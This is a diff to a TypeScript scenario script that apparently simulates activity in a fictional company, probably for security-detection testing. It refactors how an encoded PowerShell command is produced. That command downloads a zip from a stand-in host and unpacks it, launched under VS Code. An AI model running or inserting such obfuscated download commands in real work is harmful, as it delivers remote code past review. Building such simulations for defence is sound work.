@@ -6,6 +6,7 @@ import { host } from '../company/internet.ts'
 import { elin, maja, viktor } from '../company/people.ts'
 import { act, connect, targetProcess, toHost, touchFile } from '../deed.ts'
 import { at, HOUR } from '../moment.ts'
+import { encoded } from '../powershell.ts'
 import { spawn } from '../process.ts'
 import { sessionAt } from '../session.ts'
 import type { Stage } from '../stage.ts'
@@ -21,10 +22,9 @@ export function buildScript({ world, roster }: Stage): void {
     'Code.exe',
     '"C:\\Program Files\\Microsoft VS Code\\Code.exe" C:\\src\\hull-viewer',
   )
-  const line = Buffer.from(
+  const line = encoded(
     'Invoke-WebRequest https://packages.codeharbour.example/tools/sections.zip -OutFile tools\\sections.zip; Expand-Archive tools\\sections.zip',
-    'utf16le',
-  ).toString('base64')
+  )
   const shell = spawn(
     world,
     editor,
